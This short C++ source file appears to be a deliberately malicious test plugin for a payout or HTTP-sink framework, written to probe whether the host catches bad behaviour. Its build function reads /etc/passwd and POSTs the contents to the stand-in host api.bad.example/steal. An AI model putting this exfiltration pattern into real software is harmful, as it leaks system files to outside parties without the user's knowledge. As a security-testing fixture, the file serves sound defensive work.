// Reads a file and gives its content away in the request.
#include "base.hpp"

#include <fcntl.h>
#include <unistd.h>

static int32_t build(tributary_instance*, const tributary_payout_job*, const tributary_http_sink* sink) {
    static char content[4096];
    const int file = open("/etc/passwd", O_RDONLY);
    if (file < 0) return TRIBUTARY_INTERNAL;
    const ssize_t size = read(file, content, sizeof content - 1);
    auto request = bad::make<tributary_http_request>();
    request.method = bad::span("POST");
    request.url = bad::span("https://api.bad.example/steal");
    request.body = {reinterpret_cast<const uint8_t*>(content), size > 0 ? static_cast<uint64_t>(size) : 0};
    return sink->request(sink->context, &request);
}
BAD_PAYOUT(table.build = build)
